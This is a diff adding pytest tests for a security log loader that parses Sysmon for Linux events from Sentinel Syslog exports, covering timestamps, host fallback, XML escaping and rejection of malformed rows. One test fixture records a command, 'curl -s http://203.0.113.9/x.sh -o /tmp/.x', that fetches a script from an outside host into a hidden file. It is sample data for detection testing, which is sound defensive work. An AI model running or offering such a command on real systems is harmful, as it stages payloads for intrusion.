@@ -411,6 +411,120 @@ def test_sysmon_for_linux_syslog() -> None:
         "192.168.56.20", "203.0.113.9:80", 80)
 
 
+SENTINEL_SYSLOG = "sysmon_for_linux_sentinel_syslog.jsonl"
+
+
+def test_sysmon_for_linux_in_a_sentinel_syslog_export() -> None:
+    """Log Analytics / Sentinel Syslog rows: the XML in SyslogMessage is read as the syslog
+    line's, so the same events get the same values and event_uid; the CRON row is skipped
+    (file warning), the cut XML rejected, and TimeGenerated (received later) is not used."""
+    result = load(SENTINEL_SYSLOG)
+    c = result.counts
+    assert (c.read, c.loaded, c.rejected, c.duplicate) == (4, 3, 1, 0)
+    assert result.warnings == ["1 Syslog table rows without Sysmon event XML were skipped"]
+    rej = result.rejects.iloc[0]
+    assert rej["source_line"] == 5
+    assert rej["reason"] == ("truncated event XML: SyslogMessage ends before </Event> "
+                             "(syslog message length limit?)")
+    ev = result.events
+    assert ev["source_line"].tolist() == [1, 2, 4]
+    assert ev["win_event_id"].tolist() == [1, 3, 11]
+    assert ev["timestamp"].tolist() == [ts("2024-03-05 10:02:11.588204"),
+                                        ts("2024-03-05 10:02:11.612"),
+                                        ts("2024-03-05 10:02:11.700")]
+    assert ev["parse_warning"].isna().all()
+    # the FileCreate XML has no <Computer>: the row's HostName (the syslog sender) is used
+    assert ev["host"].tolist() == ["web01", "web01", "web01"]
+    proc = row(result, win_event_id=1)
+    expected = {
+        "category": "process", "action": "ProcessCreate", "user": "www-data",
+        "process_pid": 24518, "process_ppid": 24511, "process_image": "/usr/bin/curl",
+        "process_command_line": "curl -s http://203.0.113.9/x.sh -o /tmp/.x",
+        "win_channel": "Linux-Sysmon/Operational", "win_record_id": 3121,
+    }
+    assert subset(proc, expected) == expected
+    assert json.loads(proc["raw"])["ProcessName"] == "sysmon"
+    net = row(result, win_event_id=3)  # its message starts with "Event " before the XML
+    assert (net["src_ip"], net["target"], net["win_dst_port"]) == (
+        "192.168.56.20", "203.0.113.9:80", 80)
+    syslog = load("sysmon_for_linux_syslog.log").events
+    assert ev["event_uid"].tolist() == syslog["event_uid"].tolist()
+    columns = [c for c in ev.columns if c not in ("raw", "source_file", "source_line",
+                                                   "event_uid", "ingest_id")]
+    pd.testing.assert_frame_equal(ev[columns].reset_index(drop=True),
+                                  syslog[columns].reset_index(drop=True))
+
+
+def _syslog_row(message: str, **extra: Any) -> dict[str, Any]:
+    base = {"TimeGenerated": "2024-03-05T10:09:00.5Z", "Computer": "collector01",
+            "HostName": "web02", "Facility": "user", "SeverityLevel": "info",
+            "ProcessName": "sysmon", "ProcessID": 812, "SyslogMessage": message,
+            "Type": "Syslog"}
+    base.update(extra)
+    return base
+
+
+_TERMINATE = ('<Event><System><Provider Name="Linux-Sysmon" Guid="{{ff032593-a8d3-4f13-b0d6-'
+              '01fc615a0f97}}"/><EventID>5</EventID><Version>3</Version><Level>4</Level>'
+              '<Task>5</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
+              '{time}<EventRecordID>3130</EventRecordID><Correlation/><Execution '
+              'ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
+              '{computer}<Security UserId="0"/></System><EventData><Data Name="RuleName">-'
+              '</Data>{utc}<Data Name="ProcessGuid">{{7d2e6d42-ee33-65e6-e5b1-9a4d0f560000}}'
+              '</Data><Data Name="ProcessId">24518</Data><Data Name="Image">/usr/bin/curl'
+              '&amp;x</Data><Data Name="User">www-data</Data></EventData></Event>')
+
+
+def _terminate(time: bool = True, utc: bool = True, computer: bool = True) -> str:
+    return _TERMINATE.format(
+        time='<TimeCreated SystemTime="2024-03-05T10:08:59.001000000Z"/>' if time else "",
+        utc='<Data Name="UtcTime">2024-03-05 10:08:58.997</Data>' if utc else "",
+        computer="<Computer>web01</Computer>" if computer else "")
+
+
+@pytest.mark.parametrize("shape", ["jsonl", "array"])
+def test_sentinel_syslog_rows_escaped_timeless_and_array(tmp_path: Path, shape: str) -> None:
+    """An XML-escaped message is unescaped once (its own &amp; stays an &); without
+    TimeCreated the time is Sysmon's UtcTime, without either the row's TimeGenerated; the
+    host is HostName, then Computer; a JSON array export reads like JSON Lines."""
+    escaped = (_terminate().replace("&", "&amp;").replace("<", "&lt;")
+               .replace(">", "&gt;").replace('"', "&quot;"))
+    rows = [_syslog_row(escaped),
+            _syslog_row(_terminate(time=False, computer=False)),
+            _syslog_row(_terminate(time=False, utc=False, computer=False), HostName=""),
+            _syslog_row("pam_unix(cron:session): session closed for user root",
+                        ProcessName="CRON"),
+            _syslog_row("<Event><System><EventID>5</EventID></System>&bad;</Event>")]
+    path = tmp_path / f"syslog.{shape}"
+    if shape == "array":
+        path.write_text(json.dumps(rows, indent=1), "utf-8")
+    else:
+        path.write_text("".join(json.dumps(r) + "\n" for r in rows), "utf-8")
+    assert loaders.detect(path.read_bytes(), path.name).name == "windows_events"
+    result = loaders.load(path)
+    c = result.counts
+    assert (c.read, c.loaded, c.rejected) == (4, 3, 1)
+    assert result.warnings == ["1 Syslog table rows without Sysmon event XML were skipped"]
+    assert result.rejects.iloc[0]["reason"].startswith("XML refused: undefined entity")
+    ev = result.events
+    assert ev["timestamp"].tolist() == [ts("2024-03-05 10:08:59.001"),
+                                        ts("2024-03-05 10:08:58.997"),
+                                        ts("2024-03-05 10:09:00.5")]
+    assert ev["host"].tolist() == ["web01", "web02", "collector01"]
+    assert ev["process_image"].tolist() == ["/usr/bin/curl&x"] * 3
+    assert (ev["action"] == "ProcessTerminate").all()
+
+
+def test_sentinel_syslog_export_is_sniffed_even_escaped() -> None:
+    """The sniffer looks for SyslogMessage and the Linux-Sysmon provider, so an export whose
+    XML is \\u003c-escaped, or whose head has other programs' rows first, is detected; a
+    Syslog export without Sysmon is not windows_events'."""
+    row_text = json.dumps(_syslog_row(_terminate())).replace("<", "\\u003c")
+    cron = json.dumps(_syslog_row("(root) CMD (true)", ProcessName="CRON"))
+    assert LOADER.sniff((cron + "\n" + row_text + "\n").encode(), "x.json")
+    assert not LOADER.sniff((cron + "\n").encode(), "x.json")
+
+
 # --- unit behaviour ----------------------------------------------------------------------------
 
 
